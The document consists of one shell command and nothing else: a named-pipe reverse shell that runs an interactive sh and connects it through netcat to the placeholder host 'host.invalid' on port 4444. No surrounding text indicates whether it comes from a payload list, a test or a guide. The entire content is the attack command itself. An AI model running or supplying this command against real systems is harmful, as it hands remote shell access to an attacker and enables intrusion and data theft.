mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host.invalid 4444 > /tmp/f
